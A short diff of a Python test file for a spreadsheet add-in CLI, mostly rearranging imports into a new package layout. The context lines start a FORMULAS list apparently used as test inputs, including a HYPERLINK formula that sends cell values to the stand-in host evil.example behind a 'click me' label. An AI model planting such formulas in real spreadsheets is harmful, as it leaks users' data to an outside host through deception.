@@ -23,10 +23,10 @@ from openpyxl.workbook import Workbook
 from python_calamine import CalamineWorkbook
 from typer.testing import CliRunner
 
-import addin.cli  # noqa: F401  (registers every command)
-from addin.celltext import for_cell, set_text
-from addin.commands import app
-from addin.layout import DATA_ROW, add_table, columns, new_workbook
+import addin.cli.main  # noqa: F401  (registers every command)
+from addin.cli.app import app
+from addin.model.celltext import for_cell, set_text
+from addin.write.layout import DATA_ROW, add_table, columns, new_workbook
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&D7&M7,"点我")',
